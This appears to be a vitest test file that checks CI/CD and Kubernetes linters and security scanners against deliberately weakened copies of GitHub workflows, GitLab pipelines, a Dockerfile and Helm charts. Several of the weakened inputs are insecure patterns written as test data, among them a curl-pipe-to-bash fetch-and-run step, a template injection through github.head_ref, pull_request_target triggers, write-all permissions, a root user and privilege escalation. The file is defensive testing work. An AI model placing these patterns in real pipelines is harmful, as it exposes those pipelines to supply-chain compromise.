import { expect, it } from "vitest";
import { describeWithTools } from "../../../tools/describe-with-tools.ts";
import * as actionlint from "../../../tools/validators/actionlint.ts";
import { kubernetesVersions } from "../../../tools/validators/charts.ts";
import * as checkJsonschema from "../../../tools/validators/check-jsonschema.ts";
import * as conftest from "../../../tools/validators/conftest.ts";
import type { Finding, InputFile } from "../../../tools/validators/finding.ts";
import * as githubParser from "../../../tools/validators/github-parser.ts";
import * as gitlabCiLocal from "../../../tools/validators/gitlab-ci-local.ts";
import * as hadolint from "../../../tools/validators/hadolint.ts";
import * as helmLint from "../../../tools/validators/helm-lint.ts";
import * as kubeScore from "../../../tools/validators/kube-score.ts";
import * as kubeconform from "../../../tools/validators/kubeconform.ts";
import * as pipelineCheck from "../../../tools/validators/pipeline-check.ts";
import { spoil } from "../../../tools/validators/rules-of.ts";
import { withTexts } from "../../../tools/validators/staging.ts";
import * as zizmor from "../../../tools/validators/zizmor.ts";
import { chartCases, chartOptions, renderCharts, withoutRollouts } from "../src/corpus-charts.ts";
import { goldenFolder, readTexts, type Texts } from "../src/corpus-goldens.ts";
import { repositories } from "../src/corpus-repositories.ts";
import { scriptsOf } from "../src/corpus-scripts.ts";
import { shellcheckAll } from "../src/corpus-shellcheck.ts";

type Validate = (files: readonly InputFile[]) => Promise<readonly Finding[]>;
/** One thing that is spoiled in a golden, and the rule that must name it. */
type Twin = readonly [what: string, file: string, from: string, to: string, rule: string];

const github = readTexts(goldenFolder("node-github"));
const gitlab = readTexts(goldenFolder("node-gitlab"));
const only = (texts: Texts, pattern: RegExp): Texts => Object.fromEntries(Object.entries(texts).filter(([path]) => pattern.test(path)));

/** Rules that a validator names for the golden and for its twin: the twin's must be new. */
async function newRules(validate: Validate, texts: Texts, [, file, from, to]: Twin): Promise<readonly string[]> {
  const rules = async (given: Texts): Promise<readonly string[]> => (await withTexts(given, validate)).map(({ rule }) => rule);
  const before = new Set(await rules(texts));
  return (await rules({ ...texts, [file]: spoil(texts[file] ?? "", from, to) })).filter((rule) => !before.has(rule));
}

function rejects(name: string, validate: Validate, texts: Texts, twins: readonly Twin[]): void {
  it.each(twins.map((twin) => [name, twin[0], twin] as const))("%s: %s", { timeout: 120_000 }, async (_name, _what, twin) => {
    expect(await newRules(validate, texts, twin)).toContain(twin[4]);
  });
}

const verify = ".github/workflows/orders-verify.yml";
const deliver = ".github/workflows/orders-deliver.yml";
const workflows = only(github, /^\.github\//);

describeWithTools("a spoiled workflow is rejected by", ["actionlint", "zizmor", "github-parser", "shellcheck", "check-jsonschema", "pipeline-check"], () => {
  rejects("actionlint", (files) => actionlint.validate(files), workflows, [
    ["a need that nobody is", verify, "needs: [unit-test]", "needs: [unit-tests]", "job-needs"],
    ["an output that no step has", deliver, "steps.build.outputs.digest", "steps.built.outputs.digest", "expression"],
    ["an unquoted variable", verify, '"$RULES"', "$RULES", "shellcheck"],
  ]);
  rejects("zizmor", zizmor.validate, workflows, [
    ["credentials that stay behind", verify, "persist-credentials: false", "persist-credentials: true", "artipacked"],
    ["an action by its tag", verify, "@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7", "unpinned-uses"],
    ["a permission without its reason", deliver, "packages: write # registry: write; pushes images", "packages: write", "undocumented-permissions"],
    ["permissions for all jobs", verify, "permissions: {}", "permissions: write-all", "excessive-permissions"],
    ["a branch name inside a script", verify, "run: npm ci", "run: echo ${{ github.head_ref }} && npm ci", "template-injection"],
    ["a trigger that trusts strangers", verify, "  pull_request:", "  pull_request_target:", "dangerous-triggers"],
    ["a secret outside an environment", verify, 'CI: "true"', "CI: ${{ secrets.NPM_TOKEN }}", "secrets-outside-env"],
  ]);
  rejects("github-parser", githubParser.validate, workflows, [
    ["a key that does not exist", verify, "timeout-minutes: 10", "timeout-minute: 10", "unexpected-value"],
    ["a function that does not exist", verify, "${{ always() }}", "${{ allways() }}", "unknown-function"],
  ]);
  rejects("check-jsonschema", checkJsonschema.validate, workflows, [
    ["a job without limit", verify, "    timeout-minutes: 10\n", "", "custom.github-workflows-require-timeout"],
    ["a permission that does not exist", deliver, "packages: write", "packages: push", "vendor.github-workflows"],
  ]);
  rejects("pipeline-check", pipelineCheck.validate, workflows, [
    ["a script that is fetched and run", verify, "run: npm ci", "run: curl -s https://get.example.com/x.sh | bash", "GHA-016"],
    ["a trigger that trusts strangers", verify, "  pull_request:", "  pull_request_target:", "GHA-044"],
  ]);
});

const pipelines = only(gitlab, /^\.gitlab-ci\.yml$|^\.pipeline\/gitlab\//);
const gitlabDeliver = ".pipeline/gitlab/orders/deliver.yml";
const named: Texts = Object.fromEntries(Object.entries(pipelines).map(([path, text]) => [path === ".gitlab-ci.yml" ? path : `${path}/.gitlab-ci.yml`, text]));

describeWithTools("a spoiled GitLab pipeline is rejected by", ["gitlab-ci-local", "check-jsonschema", "pipeline-check"], () => {
  rejects("gitlab-ci-local", gitlabCiLocal.validate, pipelines, [
    ["a need that nobody is", gitlabDeliver, '{ job: "orders:deliver:unit-test"', '{ job: "orders:deliver:unit-tests"', "unknown-need"],
    ["a stage that does not exist", gitlabDeliver, "stage: publish", "stage: publication", "unknown-stage"],
  ]);
  rejects("check-jsonschema", checkJsonschema.validate, named, [
    ["a retry too many", `${gitlabDeliver}/.gitlab-ci.yml`, "max: 1", "max: 5", "vendor.gitlab-ci"],
  ]);
  rejects("pipeline-check", pipelineCheck.validate, named, [
    [
      "an image by its tag",
      `${gitlabDeliver}/.gitlab-ci.yml`,
      "semgrep:1.179.0@sha256:93963d9295a366f59e4850127b1550400ee7b388f04fe144e4a1f6325d96e01b",
      "semgrep:latest",
      "GL-001",
    ],
  ]);
});

describeWithTools("a spoiled Dockerfile or script is rejected by", ["hadolint", "shellcheck", "pipeline-check"], () => {
  const dockerfile = only(github, /^Dockerfile$/);
  rejects("hadolint", hadolint.validate, dockerfile, [
    ["a relative folder", "Dockerfile", "WORKDIR /app", "WORKDIR app", "DL3000"],
    ["root at the end", "Dockerfile", "USER 65532:65532", "USER root", "DL3002"],
  ]);
  rejects("pipeline-check", pipelineCheck.validate, dockerfile, [["root at the end", "Dockerfile", "USER 65532:65532", "USER root", "DF-002"]]);

  it.each([
    ["what GitLab jobs share", gitlab, ".pipeline/gitlab/orders.yml", 'rm -rf "$PIPELINE_OUT"', "rm -rf $PIPELINE_OUT", "SC2086"],
    ["a settings script", github, ".pipeline/settings/github.sh", '"repos/$repository/environments/$name"', "repos/$repository/environments/$name", "SC2086"],
  ] as const)("shellcheck: an unquoted variable in %s", async (_, texts, file, from, to, rule) => {
    const twin = { name: "twin", texts: { ...texts, [file]: spoil(texts[file] ?? "", from, to) } };
    expect((await shellcheckAll(scriptsOf(twin))).map((finding) => finding.rule)).toContain(rule);
  });
});

describeWithTools("a spoiled chart is rejected by", ["helm", "kubeconform", "kubernetes-schemas", "kube-score", "conftest", "pipeline-check"], () => {
  const [chart] = chartCases(repositories().filter(({ name }) => name === "node-github"));
  if (chart === undefined) throw new Error("node-github has no chart");
  const rendered = async (file: string, from: string, to: string): Promise<Texts> => {
    const versions = await renderCharts({ ...chart, texts: { ...chart.texts, [file]: spoil(chart.texts[file] ?? "", from, to) } });
    return { "manifests/all.yaml": (versions[kubernetesVersions()[0] ?? ""] ?? "").replaceAll(/^# Source: .*$/gm, "") };
  };
  const pod = "deploy/chart/templates/_pod.tpl";

  rejects("helm-lint", (files) => helmLint.validate(files, chartOptions(chart)), chart.texts, [
    ["a value the schema does not know", "deploy/values.yaml", "kind: service", "kind: service\nreplicaCount: 3", "values.yaml"],
    ["a template that does not close", "deploy/chart/templates/service.yaml", "{{- end }}", "", "templates/"],
  ]);

  it.each([
    [
      "kubeconform",
      "a field that does not exist",
      "deploy/chart/templates/deployment.yaml",
      "minReadySeconds:",
      "minReadySecond:",
      kubeconform.validate,
      "schema",
    ],
    [
      "kube-score",
      "a file system that can be written",
      pod,
      "readOnlyRootFilesystem: true",
      "readOnlyRootFilesystem: false",
      kubeScore.validate,
      "container-security-context-readonlyrootfilesystem",
    ],
    [
      "conftest",
      "more rights than at the start",
      pod,
      "allowPrivilegeEscalation: false",
      "allowPrivilegeEscalation: true",
      conftest.validate,
      "allow-privilege-escalation",
    ],
    [
      "pipeline-check",
      "more rights than at the start",
      pod,
      "allowPrivilegeEscalation: false",
      "allowPrivilegeEscalation: true",
      pipelineCheck.validate,
      "K8S-006",
    ],
  ] as const)("%s: %s", { timeout: 120_000 }, async (_tool, _what, file, from, to, validate, rule) => {
    const findings = await withTexts(await rendered(file, from, to), validate);
    expect(findings.map((finding) => finding.rule)).toContain(rule);
  });

  it("helm: a host without the gateway it is reached through, which helm lint forgives", { timeout: 120_000 }, async () => {
    const production = chartCases(repositories().filter(({ name }) => name === "node-github")).find(({ path }) => path.endsWith("production.yaml"));
    if (production === undefined) throw new Error("node-github has no production");
    const file = "deploy/environments/production.yaml";
    const texts = { ...production.texts, [file]: spoil(production.texts[file] ?? "", "    namespace: gateway-system\n", "") };

    expect(await withTexts(texts, (files) => helmLint.validate(files, chartOptions(production)))).toEqual([]);
    await expect(renderCharts({ ...production, texts })).rejects.toThrow("route.host is set: say through which gateway");
  });

  it("kubeconform: an Argo CD field that does not exist", async () => {
    const argocd = only(github, /argocd/);
    expect(await newRules(kubeconform.validate, argocd, ["", "deploy/argocd/applicationset.yaml", "goTemplate: true", "goTemplates: true", ""])).toContain(
      "schema",
    );
  });
});

describeWithTools("a spoiled canary is rejected by", ["helm", "kubeconform", "kubernetes-schemas", "kube-score", "conftest"], () => {
  const production = chartCases(repositories().filter(({ name }) => name === "canary-github")).find(({ path }) => path.endsWith("production.yaml"));
  if (production === undefined) throw new Error("canary-github has no production");
  const rendered = async (file: string, from: string, to: string): Promise<Texts> => {
    const versions = await renderCharts({ ...production, texts: { ...production.texts, [file]: spoil(production.texts[file] ?? "", from, to) } });
    return { "manifests/all.yaml": withoutSources(versions[kubernetesVersions()[0] ?? ""] ?? "") };
  };
  const template = (name: string): string => `deploy/chart/templates/${name}`;

  it.each([
    ["kubeconform", "a step that does not exist", template("_canary.tpl"), "- setWeight:", "- setWeights:", kubeconform.validate, "schema"],
    ["kubeconform", "a limit that does not exist", template("analysistemplate.yaml"), "failureLimit: 0", "failuresLimit: 0", kubeconform.validate, "schema"],
    ["conftest", "more rights than at the start", template("_pod.tpl"), "allowPrivilegeEscalation: false", "allowPrivilegeEscalation: true", conftest.validate, "allow-privilege-escalation"], // prettier-ignore
    ["conftest", "pods of one zone", template("rollout.yaml"), '"topology.kubernetes.io/zone" ', "", conftest.validate, "topology-spread"],
  ] as const)("%s: %s", { timeout: 120_000 }, async (_tool, _what, file, from, to, validate, rule) => {
    expect((await withTexts(await rendered(file, from, to), validate)).map((finding) => finding.rule)).toContain(rule);
  });

  it("kube-score: a Service that selects no pod of the Rollout", { timeout: 120_000 }, async () => {
    const { "manifests/all.yaml": text = "" } = await rendered(template("service-canary.yaml"), 'include "service.selectorLabels" .', '"app: nobody"');
    const findings = await withTexts({ "manifests/all.yaml": withoutRollouts(text) }, kubeScore.validate);
    expect(findings.map((finding) => finding.rule)).toContain("service-targets-pod");
  });

  it("helm: steps that are no test", { timeout: 120_000 }, async () => {
    const [step = ""] = /seconds: \d+/.exec(production.texts["deploy/values.yaml"] ?? "") ?? [];
    await expect(rendered("deploy/values.yaml", step, `${step.slice(0, -1)}1`)).rejects.toThrow("no whole minutes");
    await expect(rendered("deploy/values.yaml", "router: gateway-api", "router: gateway")).rejects.toThrow("/canary/router");
  });
});

function withoutSources(manifests: string): string {
  return manifests.replaceAll(/^# Source: .*$/gm, "");
}
